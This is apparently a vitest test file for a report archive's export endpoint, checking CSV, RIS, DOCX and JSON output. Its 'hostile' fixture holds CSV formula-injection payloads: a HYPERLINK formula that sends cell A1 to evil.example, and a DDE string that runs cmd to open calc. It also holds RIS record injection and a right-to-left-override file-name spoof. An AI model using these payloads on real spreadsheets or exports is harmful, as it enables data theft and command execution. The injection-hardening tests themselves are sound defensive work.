import mammoth from 'mammoth';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { blocksOf, type Library, openLibrary } from '../library.ts';
import { commissionReport, monitorReport, shortReports, sources } from '../shelf.ts';

let library: Library;
let monitorId = '';

/** A report whose publisher writes what a spreadsheet would run, RIS would take for a field, and Word could not hold. */
const hostile = {
  ...monitorReport,
  url: 'https://sample-monitor.example/hostile',
  title: '=HYPERLINK("https://evil.example/?"&A1,"SAMPLE")',
  authors: ['@SUM(1+1)*cmd|" /C calc"!A0', '+7 SAMPLE', '\t=1+1'],
  documentNumber: '-1+1',
  blocks: blocksOf('¶1 SAMPLE. Primerovka\nER  - \nTY  - BOOK <w:p> \u202etxt.exe \u0007\ud800 & "quoted", Россия.'),
};

beforeAll(async () => {
  library = await openLibrary(sources, { clock: () => Date.parse('2026-11-25T12:00:00.000Z') });
  await library.shelve(commissionReport);
  monitorId = (await library.shelve(monitorReport)).reportId;
  await library.shelve(hostile);
  for (const report of shortReports) await library.shelve(report);
  await library.index();
});

afterAll(() => library.close());

const ask = (query: string) => fetch(`${library.url}/api/v1/search/export?${query}`);

/** The cells of a CSV by RFC 4180. */
function cellsOf(csv: string): string[][] {
  return csv
    .trimEnd()
    .split('\r\n')
    .map((line) =>
      [...line.matchAll(/"((?:[^"]|"")*)"(?:,|$)/g)].map((match) => (match[1] ?? '').replaceAll('""', '"')),
    );
}

test('CSV has the search on top, a byte-order mark for Cyrillic, and one line a report', async () => {
  const response = await ask('format=csv&q=иностранный+агент&source=sample-monitor&from=2025');
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(response.headers.get('content-disposition')).toBe('attachment; filename=search-2026-11-25.csv');
  const bytes = Buffer.from(await response.arrayBuffer());
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const rows = cellsOf(bytes.subarray(3).toString());
  expect(rows.slice(0, 7)).toEqual([
    ['Words', 'иностранный агент'],
    ['Source', 'SAMPLE Monitor'],
    ['Published from', '2025'],
    ['Address of the search', expect.stringMatching(/^\/search\?q=.*&source=sample-monitor&from=2025$/)],
    ['Searched', '2026-11-25 12:00 UTC'],
    ['Reports found', '1'],
    ['In this list', 'all 1'],
  ]);
  const [columns = [], first = []] = rows.slice(9);
  expect(rows).toHaveLength(11);
  expect(first).toHaveLength(columns.length);
  expect(first[columns.indexOf('Title')]).toBe(monitorReport.title);
  expect(first[columns.indexOf('SHA-256 of the capture')]).toMatch(/^[0-9a-f]{64}$/);
});

test('no cell of a CSV can be taken for a formula', async () => {
  const rows = cellsOf((await (await ask('format=csv&q=Primerovka&source=sample-monitor')).text()).slice(1));
  expect(rows.flat().join()).toContain("'=HYPERLINK");
  expect(rows.flat().filter((cell) => /^[\s]*[=+\-@\t\r]/.test(cell))).toEqual([]);
});

test('RIS has one record a report, whatever its text holds, and each bears the search', async () => {
  const ris = await (await ask('format=ris&q=Primerovka')).text();
  const records = ris.split('\r\nER  - ').slice(0, -1);
  expect(records).toHaveLength(26);
  for (const record of records) {
    const lines = record.trim().split('\r\n');
    expect(lines[0]).toMatch(/^TY {2}- /);
    expect(lines.filter((line) => !/^[A-Z][A-Z0-9] {2}- \S/.test(line))).toEqual([]);
    expect(record).toContain('N1  - Search: Words: Primerovka; ');
  }
});

test('DOCX can be read by others, has the search on top, and shows hostile text as text', async () => {
  const bytes = Buffer.from(await (await ask('format=docx&q=Primerovka&source=sample-monitor')).arrayBuffer());
  const { value } = await mammoth.extractRawText({ buffer: bytes });
  const lines = value.split('\n\n');
  expect(lines.slice(0, 3)).toEqual(['Search results', 'Words: Primerovka', 'Source: SAMPLE Monitor']);
  expect(value).toContain('<w:p> [U+202E]txt.exe \ufffd\ufffd & "quoted", Россия.');
});

test('JSON has the search and hits in the shape of a search', async () => {
  const { search, reports } = (await (await ask('format=json&q=Primerovka')).json()) as {
    search: object;
    reports: object[];
  };
  expect(search).toMatchObject({ total: 26, listed: 26, sought: [{ name: 'Words', value: 'Primerovka' }] });
  expect(reports[0]).toMatchObject({ reportId: expect.any(String), passage: { text: expect.any(String) } });
});

test('chosen results alone are listed, in the order of the search; one that it did not find is named', async () => {
  const { search, reports } = (await (await ask(`format=json&id=${monitorId}&id=${monitorId}`)).json()) as {
    search: object;
    reports: { reportId: string }[];
  };
  expect(search).toMatchObject({ selected: true, listed: 1 });
  expect(reports.map(({ reportId }) => reportId)).toEqual([monitorId]);
  const missing = await ask(`format=csv&q=Primerovka&id=${monitorId}`);
  expect([missing.status, await missing.json()]).toMatchObject([400, { parameter: 'id' }]);
});

test('an export of nothing says so in every format; a format that there is not is a 400', async () => {
  for (const format of ['csv', 'ris', 'docx', 'json'])
    expect([format, (await ask(`format=${format}&q=zzzzqqqq`)).status]).toEqual([format, 200]);
  for (const query of ['q=a', 'format=pdf', 'format=csv&page=2'])
    expect([query, (await ask(query)).status]).toEqual([query, 400]);
});
